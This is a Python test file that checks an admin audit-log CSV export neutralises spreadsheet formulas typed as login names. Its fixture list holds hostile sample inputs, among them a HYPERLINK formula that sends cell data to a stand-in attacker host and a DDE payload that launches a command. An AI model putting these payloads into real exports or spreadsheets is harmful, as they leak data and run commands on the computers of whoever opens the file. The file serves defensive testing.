"""The audit log's CSV: what an anonymous visitor typed as a login never runs as a formula."""

from __future__ import annotations

import csv
import io

from layers.uploads import formula_unquoted
from tests.accounts_fixture import log_in

TYPED = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]
LIVE = ("=", "+", "-", "@", "\t", "\r")


def test_typed_logins_are_exported_as_text_not_formulas(onemap_app, client_as):
    visitor = onemap_app.server.test_client()
    for login in TYPED:
        assert log_in(visitor, login, "whatever-password").status_code in (401, 429)
    response = client_as("city.admin").get("/admin/audit.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][1] == "账号"
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(LIVE)]
    logins = {formula_unquoted(row[1]) for row in rows[1:]}
    # Stripped as the login form strips it, each is kept, readable, in the export.
    assert {login.strip() for login in TYPED} <= logins
